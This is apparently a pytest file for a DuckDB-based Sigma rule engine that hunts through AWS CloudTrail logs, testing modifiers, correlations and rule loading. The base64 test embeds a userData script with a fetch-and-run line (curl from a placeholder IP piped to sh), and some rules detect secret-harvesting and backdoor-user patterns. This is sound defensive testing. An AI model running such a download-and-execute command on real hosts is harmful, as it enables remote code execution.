"""Sigma semantics of the DuckDB engine, one focused test per point (DESIGN.md section 4 lists how the
existing backends get them wrong on CloudTrail)."""

from __future__ import annotations

import base64
import textwrap
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from awsrespond.emulator.cloudtrail import cloudtrail_record, console_login_record, iam_user_identity
from awsrespond.findings import Severity
from awsrespond.hunt.detections import Window
from awsrespond.sigma import HuntRule, RuleSet, builtin_rules_dir, load_rules, match_rules, to_detections
from awsrespond.trail.events import EventStore
from awsrespond.trail.files import TrailFile

T0 = datetime(2026, 5, 4, 22, 15, tzinfo=UTC)
HEADER = """\
title: {title}
id: {id}
status: test
logsource:
    product: aws
    service: cloudtrail
level: high
"""


def event(n: int = 0, /, **fields: Any) -> dict[str, Any]:
    """A CloudTrail record (an IAM user's API call) with ``fields`` set on top, dotted names nesting."""
    record = cloudtrail_record(
        event_time=T0 + timedelta(seconds=n),
        event_source=fields.pop("eventSource", "ec2.amazonaws.com"),
        event_name=fields.pop("eventName", "DescribeInstances"),
        aws_region=fields.pop("awsRegion", "ap-northeast-3"),
        user_identity=iam_user_identity(
            account_id="709418237741",
            user_name="quinn.okafor",
            principal_id="AIDA2XKQ7RTESTQUINN",
            access_key_id="AKIA2XKQ7RQUINN00001",
        ),
        source_ip=fields.pop("sourceIPAddress", "198.51.100.77"),
        user_agent=fields.pop("userAgent", "Boto3/1.35.2 md/Botocore#1.35.2 ua/2.0 os/linux"),
        request_parameters=fields.pop("requestParameters", {}),
    )
    for name, value in fields.items():
        node = record
        *parents, last = name.split(".")
        for part in parents:
            node = node.setdefault(part, {})
        node[last] = value
    return record


def store_of(records: Sequence[dict[str, Any]]) -> EventStore:
    for number, record in enumerate(records):
        record["eventID"] = f"ev-{number}"
    store = EventStore()
    store.load([TrailFile(path="test", records=list(records))])
    return store


def write_rule(
    folder: Path,
    detection: str,
    *,
    name: str = "rule",
    title: str = "Test rule",
    rule_id: str | None = None,
    extra: str = "",
) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}.yml"
    text = HEADER.format(title=title, id=rule_id or f"00000000-0000-4000-8000-{abs(hash(name)) % 10**12:012d}")
    path.write_text(
        text + "detection:\n" + textwrap.indent(textwrap.dedent(detection), "    ") + extra, encoding="utf-8"
    )
    return path


def matching(tmp_path: Path, detection: str, records: Sequence[dict[str, Any]]) -> list[int]:
    """Indexes of ``records`` the rule with ``detection`` matches."""
    ruleset = load_rules([write_rule(tmp_path / "rules", detection)], include_builtin=False)
    assert ruleset.problems == [], [str(p) for p in ruleset.problems]
    (rule,) = ruleset.rules
    store = store_of(records)
    rowids = match_rules(store.db, ruleset.rules)[rule.id]
    ids = dict(store.db.execute("SELECT rowid, eventID FROM events").fetchall())
    return sorted(int(ids[r].removeprefix("ev-")) for r in rowids)


# --- strings ------------------------------------------------------------------------------------


def test_strings_match_case_insensitively(tmp_path: Path) -> None:
    records = [
        console_login_record(
            event_time=T0,
            account_id="3" * 12,
            user_name="mei",
            principal_id="AIDAMEI",
            source_ip="203.0.113.9",
            user_agent="Mozilla/5.0",
            mfa_used=False,
        ),
        console_login_record(
            event_time=T0,
            account_id="3" * 12,
            user_name="mei",
            principal_id="AIDAMEI",
            source_ip="203.0.113.9",
            user_agent="Mozilla/5.0",
            mfa_used=True,
        ),
    ]
    detection = """
        selection:
            eventName: consolelogin
            additionalEventData.MFAUsed: 'NO'
            responseElements.ConsoleLogin: SUCCESS
        condition: selection
    """
    assert matching(tmp_path, detection, records) == [0]


def test_cased_modifier_compares_case_sensitively(tmp_path: Path) -> None:
    records = [event(eventName="GetSecretValue"), event(eventName="getsecretvalue")]
    detection = """
        selection:
            eventName|cased: GetSecretValue
        condition: selection
    """
    assert matching(tmp_path, detection, records) == [0]


def test_wildcards_star_and_question_mark(tmp_path: Path) -> None:
    records = [
        event(userAgent="aws-cli/2.15.30 Python/3.11.8"),
        event(userAgent="aws-cli/1.29.0"),
        event(eventName="GetSecretValue"),
        event(eventName="GetSecretsValue"),
    ]
    detection = """
        agent:
            userAgent: 'AWS-CLI/2.*'
        name:
            eventName: 'Get?ecretValue'
        condition: agent or name
    """
    assert matching(tmp_path, detection, records) == [0, 2]


def test_sql_like_metacharacters_and_sigma_escapes_are_literal(tmp_path: Path) -> None:
    records = [
        event(requestParameters={"bucketName": "logs_2026", "prefix": "100%", "key": "a*b", "path": "c:\\temp"}),
        event(requestParameters={"bucketName": "logsX2026", "prefix": "100X", "key": "aXb", "path": "c:\\temp"}),
        event(requestParameters={"bucketName": "logs_2026", "prefix": "1000", "key": "a*b", "path": "c:Xtemp"}),
    ]
    detection = r"""
        selection:
            requestParameters.bucketName: 'logs_2026'
            requestParameters.prefix|endswith: '0%'
            requestParameters.key: 'a\*b'
            requestParameters.path: 'c:\temp'
        condition: selection
    """
    assert matching(tmp_path, detection, records) == [0]


def test_contains_startswith_endswith(tmp_path: Path) -> None:
    records = [
        event(userAgent="Mozilla/5.0 S3 Browser 11.5"),
        event(userAgent="S3 Browser/11"),
        event(userAgent="Browser S3"),
    ]
    assert matching(tmp_path, "sel:\n    userAgent|contains: 's3 browser'\ncondition: sel\n", records) == [0, 1]
    assert matching(tmp_path, "sel:\n    userAgent|startswith: 's3 browser'\ncondition: sel\n", records) == [1]
    assert matching(tmp_path, "sel:\n    userAgent|endswith: 'S3'\ncondition: sel\n", records) == [2]


def test_all_modifier_needs_every_value(tmp_path: Path) -> None:
    records = [
        event(requestParameters={"policyDocument": '{"Effect":"Allow","Action":"*","Resource":"*"}'}),
        event(requestParameters={"policyDocument": '{"Effect":"Deny","Action":"*","Resource":"*"}'}),
    ]
    detection = """
        selection:
            requestParameters.policyDocument|contains|all:
                - '"Allow"'
                - '"Action":"*"'
        condition: selection
    """
    assert matching(tmp_path, detection, records) == [0]


# --- regular expressions -----------------------------------------------------------------------


def test_re_is_an_unanchored_case_sensitive_search_unless_i(tmp_path: Path) -> None:
    records = [
        event(**{"userIdentity.arn": "arn:aws:sts::709418237741:assumed-role/aws:ec2-instance/i-0abc"}),
        event(**{"userIdentity.arn": "arn:aws:sts::709418237741:ASSUMED-ROLE/AWS:ec2-instance/i-0abc"}),
        event(**{"userIdentity.arn": "arn:aws:iam::709418237741:user/assumed-role"}),
    ]
    assert matching(tmp_path, "sel:\n    userIdentity.arn|re: 'assumed-role/aws:'\ncondition: sel\n", records) == [0]
    assert matching(tmp_path, "sel:\n    userIdentity.arn|re|i: 'assumed-role/aws:'\ncondition: sel\n", records) == [
        0,
        1,
    ]
    assert matching(tmp_path, "sel:\n    userIdentity.arn|re: '(?i)assumed-role/aws:'\ncondition: sel\n", records) == [
        0,
        1,
    ]
    assert matching(
        tmp_path, "sel:\n    userIdentity.arn|re: '^arn:aws:iam::[0-9]{12}:user/'\ncondition: sel\n", records
    ) == [2]


# --- cidr ----------------------------------------------------------------------------------------


def test_cidr_ipv4_ranges_not_text_prefixes(tmp_path: Path) -> None:
    ips = [
        "172.16.0.1",
        "172.31.255.255",
        "172.32.0.1",
        "172.160.0.1",
        "AWS Internal",
        "ec2.amazonaws.com",
        "172.16.0.1.evil",
    ]
    records = [event(sourceIPAddress=ip) for ip in ips]
    assert matching(tmp_path, "sel:\n    sourceIPAddress|cidr: 172.16.0.0/12\ncondition: sel\n", records) == [0, 1]


def test_cidr_ipv6_in_any_textual_form(tmp_path: Path) -> None:
    ips = [
        "2001:db8::1",
        "2001:0DB8:0000:0000:0000:0000:0000:0005",
        "2001:db8:ffff::",
        "2001:db9::1",
        "::1",
        "10.0.0.1",
        "fe80::1%eth0",
    ]
    records = [event(sourceIPAddress=ip) for ip in ips]
    detection = """
        sel:
            sourceIPAddress|cidr:
                - 2001:db8::/32
                - 10.0.0.0/8
        condition: sel
    """
    assert matching(tmp_path, detection, records) == [0, 1, 2, 5]


# --- other modifiers ----------------------------------------------------------------------------


def test_fieldref_compares_two_fields_case_insensitively(tmp_path: Path) -> None:
    records = [
        event(eventName="UpdateLoginProfile", requestParameters={"userName": "QUINN.OKAFOR"}),
        event(eventName="UpdateLoginProfile", requestParameters={"userName": "svc-backup"}),
        event(eventName="UpdateLoginProfile", requestParameters={}),
    ]
    detection = """
        selection:
            eventName: UpdateLoginProfile
        same_user:
            userIdentity.userName|fieldref: requestParameters.userName
        condition: selection and not same_user
    """
    assert matching(tmp_path, detection, records) == [1, 2]
    prefix = "sel:\n    userIdentity.arn|fieldref|endswith: requestParameters.userName\ncondition: sel\n"
    assert matching(tmp_path, prefix, records) == [0]


def test_exists_on_columns_and_json_paths(tmp_path: Path) -> None:
    records = [
        event(errorCode="AccessDenied", requestParameters={"maxResults": 5}),
        event(requestParameters={"maxResults": None}),
        event(),
    ]
    assert matching(tmp_path, "sel:\n    errorCode|exists: true\ncondition: sel\n", records) == [0]
    assert matching(tmp_path, "sel:\n    errorCode|exists: false\ncondition: sel\n", records) == [1, 2]
    assert matching(tmp_path, "sel:\n    requestParameters.maxResults|exists: true\ncondition: sel\n", records) == [0]


def test_null_means_missing_or_json_null(tmp_path: Path) -> None:
    records = [
        event(requestParameters={"instanceType": None}),
        event(requestParameters={}),
        event(requestParameters={"instanceType": "p4d.24xlarge"}),
        event(errorCode=""),
    ]
    assert matching(tmp_path, "sel:\n    requestParameters.instanceType: null\ncondition: sel\n", records) == [0, 1, 3]
    assert matching(tmp_path, "sel:\n    errorCode: null\ncondition: sel\n", records) == [0, 1, 2]


def test_numeric_comparisons_and_numbers(tmp_path: Path) -> None:
    counts: list[Any] = [10, 9, "10", 12.5, "ten", None]
    records = [event(requestParameters={"maxCount": count}) for count in counts]
    assert matching(tmp_path, "sel:\n    requestParameters.maxCount|gte: 10\ncondition: sel\n", records) == [0, 2, 3]
    assert matching(tmp_path, "sel:\n    requestParameters.maxCount|gt: 10\ncondition: sel\n", records) == [3]
    assert matching(tmp_path, "sel:\n    requestParameters.maxCount|lt: 10\ncondition: sel\n", records) == [1]
    assert matching(tmp_path, "sel:\n    requestParameters.maxCount|lte: 10\ncondition: sel\n", records) == [0, 1, 2]
    assert matching(tmp_path, "sel:\n    requestParameters.maxCount: 10\ncondition: sel\n", records) == [0, 2]


def test_booleans_in_typed_columns_and_json(tmp_path: Path) -> None:
    records = [
        event(eventName="GetParameter", requestParameters={"withDecryption": True}),
        event(eventName="GetParameter", requestParameters={"withDecryption": False}),
        event(eventName="GetParameters", requestParameters={"withDecryption": "TRUE"}),
    ]
    assert matching(tmp_path, "sel:\n    requestParameters.withDecryption: true\ncondition: sel\n", records) == [0, 2]
    assert matching(tmp_path, "sel:\n    readOnly: true\ncondition: sel\n", records) == [0, 1, 2]
    assert matching(tmp_path, "sel:\n    readOnly: 'false'\ncondition: sel\n", records) == []


def test_base64_and_base64offset(tmp_path: Path) -> None:
    script = "#!/bin/bash\nexport X=1; curl -s http://203.0.113.50/x.sh | sh\n"
    records = [
        event(requestParameters={"userData": base64.b64encode(script.encode()).decode()}),
        event(requestParameters={"userData": base64.b64encode(b"#!/bin/bash\nyum -y update\n").decode()}),
        event(requestParameters={"userData": base64.b64encode(b"curl").decode()}),
    ]
    offset = "sel:\n    requestParameters.userData|base64offset|contains: 'curl -s'\ncondition: sel\n"
    assert matching(tmp_path, offset, records) == [0]
    exact = "sel:\n    requestParameters.userData|base64: 'curl'\ncondition: sel\n"
    assert matching(tmp_path, exact, records) == [2]


def test_keywords_search_every_column(tmp_path: Path) -> None:
    records = [
        event(requestParameters={"bucketName": "Exfil-Drop-7731"}),
        event(userAgent="exfil-drop-7731 agent"),
        event(requestParameters={"bucketName": "exfil-7731"}),
    ]
    detection = """
        keywords:
            - 'EXFIL-DROP-7731'
        condition: keywords
    """
    assert matching(tmp_path, detection, records) == [0, 1]


# --- negation ----------------------------------------------------------------------------------


def test_not_on_a_missing_field_keeps_the_event(tmp_path: Path) -> None:
    records = [
        event(eventName="ListBuckets", **{"userIdentity.type": "AssumedRole"}),
        event(eventName="ListBuckets"),
        event(eventName="ListBuckets", **{"userIdentity.type": None}),
        event(eventName="ListBuckets", requestParameters={"filter": "keep"}),
    ]
    records[1]["userIdentity"]["type"] = "IAMUser"
    del records[2]["userIdentity"]["type"]
    detection = """
        selection:
            eventName: ListBuckets
        filter_role:
            userIdentity.type: AssumedRole
        filter_json:
            requestParameters.filter: drop
        condition: selection and not filter_role and not filter_json
    """
    assert matching(tmp_path, detection, records) == [1, 2, 3]


def test_double_negation_and_not_of_or_stay_two_valued(tmp_path: Path) -> None:
    records = [event(errorCode="AccessDenied"), event(), event(errorCode="Throttling")]
    detection = """
        denied:
            errorCode: AccessDenied
        throttled:
            errorCode: Throttling
        condition: not (not denied) or not (denied or throttled)
    """
    assert matching(tmp_path, detection, records) == [0, 1]


# --- field paths ---------------------------------------------------------------------------------


def test_nested_json_paths_and_odd_keys(tmp_path: Path) -> None:
    records = [
        event(
            requestParameters={
                "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess",
                "x-amz-acl": "public-read",
                "key with space": "v",
                'we"ird': "q",
                "a.b": "dotted",
            },
            additionalEventData={"x-amz-id-2": "abc/def=="},
        ),
        event(requestParameters={"policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess", "x-amz-acl": "private"}),
    ]
    detection = """
        selection:
            requestParameters.policyArn|endswith: '/AdministratorAccess'
            requestParameters.x-amz-acl: public-read
            requestParameters.key with space: V
            requestParameters.we"ird: Q
            additionalEventData.x-amz-id-2|contains: '/def'
        condition: selection
    """
    assert matching(tmp_path, detection, records) == [0]


def test_session_context_path_inside_user_identity(tmp_path: Path) -> None:
    records = [event(), event()]
    records[0]["userIdentity"]["sessionContext"] = {
        "attributes": {"mfaAuthenticated": "false"},
        "sessionIssuer": {"type": "Role"},
    }
    records[1]["userIdentity"]["sessionContext"] = {"attributes": {"mfaAuthenticated": "true"}}
    detection = """
        selection:
            userIdentity.sessionContext.attributes.mfaAuthenticated: 'false'
            userIdentity.sessionContext.sessionIssuer.type: role
            userIdentity.accessKeyId|startswith: AKIA
        condition: selection
    """
    assert matching(tmp_path, detection, records) == [0]


def test_unknown_top_level_names_are_read_from_extra(tmp_path: Path) -> None:
    records = [event(vpcEndpointId="vpce-0a1b2c3d"), event(), event(vpcEndpointId="vpce-9")]
    records[1]["tlsDetails"]["clientProvidedHostHeader"] = "evil.example.net"
    detection = """
        endpoint:
            vpcEndpointId|startswith: 'VPCE-0'
        odd_host:
            tlsDetails.clientProvidedHostHeader|endswith: '.example.net'
        condition: endpoint or odd_host
    """
    assert matching(tmp_path, detection, records) == [0, 1]


def test_whole_json_column_contains_its_text(tmp_path: Path) -> None:
    records = [
        event(eventName="PutBucketVersioning", requestParameters={"VersioningConfiguration": {"Status": "Suspended"}}),
        event(eventName="PutBucketVersioning", requestParameters={"VersioningConfiguration": {"Status": "Enabled"}}),
    ]
    detection = """
        selection:
            requestParameters|contains: '"Status":"suspended"'
        condition: selection
    """
    assert matching(tmp_path, detection, records) == [0]


def test_arrays_match_when_any_element_matches(tmp_path: Path) -> None:
    records = [
        event(
            resources=[
                {"ARN": "arn:aws:kms:eu-west-3:1:key/k"},
                {"ARN": "arn:aws:secretsmanager:eu-west-3:1:secret:db"},
            ]
        ),
        event(resources=[{"ARN": "arn:aws:kms:eu-west-3:1:key/k"}]),
        event(
            requestParameters={
                "createVolumePermission": {"add": {"items": [{"group": "x"}, {"userId": "444455556666"}]}}
            }
        ),
        event(
            requestParameters={
                "layers": ["arn:aws:lambda:us-east-2:1:layer:a:3", "arn:aws:lambda:us-east-2:9:layer:b:7"]
            }
        ),
        event(requestParameters={"layers": []}),
    ]
    secret = "sel:\n    resources.ARN|contains: ':secret:'\ncondition: sel\n"
    assert matching(tmp_path, secret, records) == [0]
    share = "sel:\n    requestParameters.createVolumePermission.add.items.userId: '444455556666'\ncondition: sel\n"
    assert matching(tmp_path, share, records) == [2]
    layer = "sel:\n    requestParameters.layers|endswith: ':9:layer:b:7'\ncondition: sel\n"
    assert matching(tmp_path, layer, records) == [3]
    # Not: an array any of whose elements matches the filter is filtered out; an empty array is missing.
    kms = "sel:\n    eventName: DescribeInstances\nf:\n    resources.ARN|contains: ':kms:'\ncondition: sel and not f\n"
    assert matching(tmp_path, kms, records) == [2, 3, 4]
    empty = "sel:\n    requestParameters.layers: null\ncondition: sel\n"
    assert matching(tmp_path, empty, records) == [0, 1, 2, 4]


# --- correlations --------------------------------------------------------------------------------

BURST = """\
title: Failed RunInstances
id: 7d0b2f4e-1c11-4a6e-9e55-000000000001
name: failed_run_instances
status: test
logsource:
    product: aws
    service: cloudtrail
detection:
    selection:
        eventName: RunInstances
        errorCode|exists: true
    condition: selection
level: low
---
title: Burst of failed RunInstances by one access key
id: 7d0b2f4e-1c11-4a6e-9e55-000000000002
status: test
correlation:
    type: event_count
    rules:
        - failed_run_instances
    group-by:
        - userIdentity.accessKeyId
    timespan: 10m
    condition:
        gte: 10
{generate}level: high
"""

SECRETS = """\
title: Secret read
id: 1c5e8a7b-2f3d-4e6a-8b9c-000000000011
status: test
logsource:
    product: aws
    service: cloudtrail
detection:
    selection:
        eventName: GetSecretValue
    condition: selection
---
title: Many distinct secrets read by one principal
id: 1c5e8a7b-2f3d-4e6a-8b9c-000000000012
status: test
correlation:
    type: value_count
    rules:
        - 1c5e8a7b-2f3d-4e6a-8b9c-000000000011
    group-by:
        - userIdentity.arn
    timespan: 10m
    condition:
        gte: 10
        field: requestParameters.secretId
level: high
"""


def failed_run(second: float, key: str) -> dict[str, Any]:
    record = event(eventName="RunInstances", errorCode="Client.UnauthorizedOperation")
    record["eventTime"] = (T0 + timedelta(seconds=second)).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"
    record["userIdentity"]["accessKeyId"] = key
    return record


def correlation_matches(
    tmp_path: Path, text: str, records: Sequence[dict[str, Any]]
) -> tuple[RuleSet, dict[str, list[int]], dict[int, int]]:
    (tmp_path / "corr.yml").write_text(text, encoding="utf-8")
    ruleset = load_rules([tmp_path / "corr.yml"], include_builtin=False)
    assert ruleset.problems == [], [str(p) for p in ruleset.problems]
    store = store_of(records)
    ids = {
        rowid: int(eid.removeprefix("ev-"))
        for rowid, eid in store.db.execute("SELECT rowid, eventID FROM events").fetchall()
    }
    return ruleset, match_rules(store.db, ruleset.rules), ids


def test_event_count_burst_by_group_within_timespan(tmp_path: Path) -> None:
    records = [failed_run(50 * i, "AKIAEXAMPLEBURST0001") for i in range(10)]  # 450 s apart at most
    records += [failed_run(2000 + 66 * i, "AKIAEXAMPLESLOW00002") for i in range(10)]  # 594 s: still inside
    records += [failed_run(5000 + 67 * i, "AKIAEXAMPLESLOWER003") for i in range(10)]  # 603 s: just over 10 min
    records += [failed_run(9000 + i, f"AKIAEXAMPLEMANY{i:05d}") for i in range(12)]  # many keys, one each
    records += [event(n=30, eventName="RunInstances")]  # not failed: not a base event
    ruleset, matches, ids = correlation_matches(tmp_path, BURST.format(generate=""), records)
    by_title = {rule.title: rule for rule in ruleset.rules}
    assert list(by_title) == ["Burst of failed RunInstances by one access key"]  # the base rule does not generate
    rule = by_title["Burst of failed RunInstances by one access key"]
    assert rule.kind == "correlation" and rule.level is Severity.HIGH
    assert sorted(ids[r] for r in matches[rule.id]) == list(range(20))


def test_event_count_window_spans_exactly_the_timespan(tmp_path: Path) -> None:
    inside = [failed_run(600 * i / 9, "AKIAEXAMPLEEDGE00001") for i in range(10)]  # first to last: 600 s
    outside = [failed_run(5000 + 601 * i / 9, "AKIAEXAMPLEEDGE00002") for i in range(10)]  # 601 s
    ruleset, matches, ids = correlation_matches(tmp_path, BURST.format(generate=""), inside + outside)
    assert sorted(ids[r] for r in matches[ruleset.rules[0].id]) == list(range(10))


def test_generate_true_keeps_the_base_rule(tmp_path: Path) -> None:
    records = [failed_run(i, "AKIAEXAMPLEBURST0001") for i in range(3)]
    ruleset, matches, _ = correlation_matches(tmp_path, BURST.format(generate="    generate: true\n"), records)
    assert [rule.kind for rule in ruleset.rules] == ["event", "correlation"]
    assert len(matches[ruleset.rules[0].id]) == 3 and matches[ruleset.rules[1].id] == []


def test_value_count_distinct_values_by_group(tmp_path: Path) -> None:
    def read(second: int, arn: str, secret: str) -> dict[str, Any]:
        record = event(
            second,
            eventName="GetSecretValue",
            eventSource="secretsmanager.amazonaws.com",
            requestParameters={"secretId": secret},
        )
        record["userIdentity"]["arn"] = arn
        return record

    thief = "arn:aws:sts::709418237741:assumed-role/ci-deploy/i-0f00"
    app = "arn:aws:sts::709418237741:assumed-role/orders-api/task-1"
    slow = "arn:aws:iam::709418237741:user/slow.reader"
    records = [read(30 * i, thief, f"prod/db-{i}") for i in range(10)]  # 10 distinct in 270 s
    records += [read(30 * i, app, "prod/orders") for i in range(40)]  # one secret, 40 times
    records += [read(20000 + 70 * i, slow, f"prod/s-{i}") for i in range(10)]  # 10 distinct over 630 s
    ruleset, matches, ids = correlation_matches(tmp_path, SECRETS, records)
    (rule,) = ruleset.rules
    assert sorted(ids[r] for r in matches[rule.id]) == list(range(10))


TEMPORAL = """\
title: User created
name: user_created
status: test
logsource:
    product: aws
    service: cloudtrail
detection:
    selection:
        eventName: CreateUser
    condition: selection
---
title: Access key created
name: key_created
status: test
logsource:
    product: aws
    service: cloudtrail
detection:
    selection:
        eventName: CreateAccessKey
    condition: selection
---
title: New user given a key at once
status: test
correlation:
    type: temporal
    rules:
        - user_created
        - key_created
    group-by:
        - new_user
    aliases:
        new_user:
            user_created: responseElements.user.userName
            key_created: requestParameters.userName
    timespan: 5m
level: high
"""


def test_temporal_correlation_with_field_aliases(tmp_path: Path) -> None:
    def created(second: int, name: str) -> dict[str, Any]:
        return event(second, eventName="CreateUser", responseElements={"user": {"userName": name}})

    def keyed(second: int, name: str) -> dict[str, Any]:
        return event(second, eventName="CreateAccessKey", requestParameters={"userName": name})

    records = [
        created(0, "backdoor-ops"),
        keyed(120, "backdoor-ops"),  # same user within 5 minutes: both events
        created(1000, "intern-2026"),
        keyed(1400, "intern-2026"),  # 400 s later: too late
        created(3000, "svc-metrics"),
        keyed(3010, "someone-else"),  # another user
        keyed(5000, "lonely-key"),
    ]
    ruleset, matches, ids = correlation_matches(tmp_path, TEMPORAL, records)
    (rule,) = ruleset.rules
    assert rule.correlation is not None and rule.correlation.type == "temporal"
    assert sorted(ids[r] for r in matches[rule.id]) == [0, 1]
    # The window's parameters reach every base rule's branch.
    store = store_of(records)
    where, params = Window(since=T0 + timedelta(seconds=60)).sql()
    assert match_rules(store.db, ruleset.rules, where=where, params=params)[rule.id] == []
    where, params = Window(until=T0 + timedelta(seconds=200)).sql()
    assert len(match_rules(store.db, ruleset.rules, where=where, params=params)[rule.id]) == 2


def test_correlation_respects_the_window(tmp_path: Path) -> None:
    records = [failed_run(50 * i, "AKIAEXAMPLEBURST0001") for i in range(12)]
    ruleset, _, ids = correlation_matches(tmp_path, BURST.format(generate=""), records)
    store = store_of(records)
    since = T0 + timedelta(seconds=120)  # leaves 9 of the 12 events: no burst of 10 in the window
    where, params = Window(since=since).sql()
    assert match_rules(store.db, ruleset.rules, where=where, params=params)[ruleset.rules[0].id] == []
    where, params = Window(since=T0 + timedelta(seconds=100)).sql()
    got = match_rules(store.db, ruleset.rules, where=where, params=params)[ruleset.rules[0].id]
    assert sorted(ids[r] for r in got) == list(range(2, 12))


# --- loading, problems, metadata ---------------------------------------------------------------


def test_event_rules_respect_the_window(tmp_path: Path) -> None:
    records = [event(n, eventName="StopLogging") for n in (0, 3600, 7200)]
    ruleset = load_rules(
        [write_rule(tmp_path, "sel:\n    eventName: StopLogging\ncondition: sel\n")], include_builtin=False
    )
    store = store_of(records)
    where, params = Window(since=T0 + timedelta(seconds=1800), until=T0 + timedelta(seconds=3600)).sql()
    rowids = match_rules(store.db, ruleset.rules, where=where, params=params)[ruleset.rules[0].id]
    ids = dict(store.db.execute("SELECT rowid, eventID FROM events").fetchall())
    assert [ids[r] for r in rowids] == ["ev-1"]


def test_rules_routed_by_name_by_source_and_unrouted_all_see_their_events(tmp_path: Path) -> None:
    records = [
        event(0, eventName="CONSOLELOGIN", eventSource="signin.amazonaws.com"),
        event(1, eventName="GetSigninToken", eventSource="SIGNIN.amazonaws.com"),
        event(2, eventName="ConsoleLogin", eventSource="signin.amazonaws.com", userAgent="curl/8.4.0"),
        event(3, eventName="DescribeRegions", userAgent="CURL/7.1"),
        event(7200, eventName="ConsoleLogin", eventSource="signin.amazonaws.com", userAgent="curl/8.4.0"),
    ]
    pack = tmp_path / "pack"
    by_name = write_rule(pack, "sel:\n    eventName: consolelogin\ncondition: sel\n", name="by_name", title="A")
    also_name = write_rule(
        pack,
        "sel:\n    eventName: [ConsoleLogin, GetSigninToken]\n    userAgent|startswith: curl\ncondition: sel\n",
        name="also_name",
        title="B",
    )
    by_source = write_rule(
        pack, "sel:\n    eventSource: signin.amazonaws.com\ncondition: sel\n", name="by_source", title="C"
    )
    free = write_rule(pack, "sel:\n    userAgent|contains: curl\ncondition: sel\n", name="free", title="D")
    ruleset = load_rules([by_name, also_name, by_source, free], include_builtin=False)
    kinds = [(bool(r.event_names), bool(r.event_sources)) for r in ruleset.rules]
    assert kinds == [(True, False), (True, False), (False, True), (False, False)]
    store = store_of(records)
    rows = store.db.execute("SELECT rowid, eventID FROM events").fetchall()
    ids = {rowid: int(eid.removeprefix("ev-")) for rowid, eid in rows}
    where, params = Window(until=T0 + timedelta(seconds=60)).sql()
    matches = match_rules(store.db, ruleset.rules, where=where, params=params)
    got = {rule.title: sorted(ids[r] for r in matches[rule.id]) for rule in ruleset.rules}
    assert got == {"A": [0, 2], "B": [2], "C": [0, 1, 2], "D": [2, 3]}


def test_each_bad_rule_is_a_problem_and_the_rest_still_load(tmp_path: Path) -> None:
    pack = tmp_path / "pack"
    write_rule(pack, "sel:\n    eventName: StopLogging\ncondition: sel\n", name="good", title="Good")
    write_rule(
        pack, "sel:\n    eventName|nosuchmodifier: x\ncondition: sel\n", name="bad_modifier", title="Bad modifier"
    )
    write_rule(pack, "sel:\n    userAgent|re: '(?<=curl)/7'\ncondition: sel\n", name="lookbehind", title="Lookbehind")
    write_rule(pack, "sel:\n    eventName|expand: '%names%'\ncondition: sel\n", name="placeholder", title="Placeholder")
    (pack / "broken.yml").write_text("title: [unclosed\n", encoding="utf-8")
    (pack / ".github" / "workflows").mkdir(parents=True)
    (pack / ".github" / "workflows" / "ci.yml").write_text("on: push\njobs: {}\n", encoding="utf-8")
    (pack / "windows.yml").write_text(
        "title: Windows rule\nid: 9f3e2d1c-0000-4000-8000-00000000aaaa\nlogsource:\n    product: windows\n"
        "    category: process_creation\ndetection:\n    sel:\n        Image|endswith: '\\\\cmd.exe'\n"
        "    condition: sel\n",
        encoding="utf-8",
    )
    (pack / "orphan.yml").write_text(
        "title: Orphan correlation\ncorrelation:\n    type: event_count\n    rules: [no_such_rule]\n"
        "    timespan: 5m\n    condition:\n        gte: 2\n",
        encoding="utf-8",
    )
    ruleset = load_rules([pack, tmp_path / "missing-dir"], include_builtin=False)
    assert [rule.title for rule in ruleset.rules] == ["Good"]
    problems = {Path(p.path).name: p for p in ruleset.problems}
    assert set(problems) == {
        "bad_modifier.yml",
        "lookbehind.yml",
        "placeholder.yml",
        "broken.yml",
        "windows.yml",
        "orphan.yml",
        "missing-dir",
    }
    assert "nosuchmodifier" in problems["bad_modifier.yml"].message
    assert problems["bad_modifier.yml"].rule is not None
    assert "windows" in problems["windows.yml"].message
    assert "no_such_rule" in problems["orphan.yml"].message


def test_correlation_of_a_correlation_is_a_problem(tmp_path: Path) -> None:
    chained = BURST.format(generate="") + textwrap.dedent("""\
        ---
        title: Burst of bursts
        correlation:
            type: event_count
            rules:
                - 7d0b2f4e-1c11-4a6e-9e55-000000000002
            timespan: 1h
            condition:
                gte: 2
        """)
    (tmp_path / "chained.yml").write_text(chained, encoding="utf-8")
    ruleset = load_rules([tmp_path / "chained.yml"], include_builtin=False)
    assert [rule.title for rule in ruleset.rules] == ["Burst of failed RunInstances by one access key"]
    assert [p.rule for p in ruleset.problems] == ["chained#3"]
    assert "correlations of correlations" in ruleset.problems[0].message


def test_duplicate_ids_keep_the_first_pack(tmp_path: Path) -> None:
    same = "11111111-2222-4333-8444-555555555555"
    first = write_rule(
        tmp_path / "a", "sel:\n    eventName: StopLogging\ncondition: sel\n", title="First", rule_id=same
    )
    second = write_rule(
        tmp_path / "b", "sel:\n    eventName: DeleteTrail\ncondition: sel\n", title="Second", rule_id=same
    )
    ruleset = load_rules([first, second], include_builtin=False)
    assert [rule.title for rule in ruleset.rules] == ["First"]
    assert len(ruleset.problems) == 1
    assert ruleset.problems[0].path == str(second) and ruleset.problems[0].rule == same
    assert "duplicate" in ruleset.problems[0].message


def test_rule_metadata_and_detections(tmp_path: Path) -> None:
    path = tmp_path / "meta_rule.yml"
    path.write_text(
        textwrap.dedent("""\
            title: Trail stopped
            description: Someone stopped CloudTrail logging.
            logsource:
                product: AWS
                service: CloudTrail
            tags:
                - attack.defense-evasion
                - attack.t1562.008
                - attack.t1078
                - cve.2021-1234
            detection:
                sel:
                    eventName: StopLogging
                condition: sel
            falsepositives:
                - A planned trail migration
            recommendation: Restart logging and find who stopped it.
            """),
        encoding="utf-8",
    )
    info = tmp_path / "info.yml"
    info.write_text(
        path.read_text().replace(
            "title: Trail stopped", "title: Info\nid: 4e0e7d3c-9a1f-4c55-b1b2-0000000000ff\nlevel: informational"
        ),
        encoding="utf-8",
    )
    ruleset = load_rules([path, info], include_builtin=False)
    assert ruleset.problems == []
    rule, info_rule = ruleset.rules
    assert rule.id == "meta_rule" and rule.level is Severity.MEDIUM and info_rule.level is Severity.INFO
    assert rule.mitre == ("T1562.008", "T1078")
    assert rule.falsepositives == ("A planned trail migration",)
